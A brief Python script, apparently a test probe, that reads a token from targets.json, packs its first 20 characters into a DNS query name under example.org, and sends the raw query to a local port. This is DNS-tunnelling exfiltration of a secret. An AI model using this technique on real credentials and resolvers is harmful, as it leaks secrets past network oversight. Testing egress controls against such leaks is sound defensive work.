# tries: to carry a word out in the name of a DNS question
import json
t = json.load(open('targets.json'))
import socket, struct
name = b''.join(bytes([len(p)]) + p for p in (t['token'][:20].encode(), b'example', b'org')) + b'\0'
question = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + name + struct.pack('>2H', 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(question, ('127.0.0.1', t['dns']))
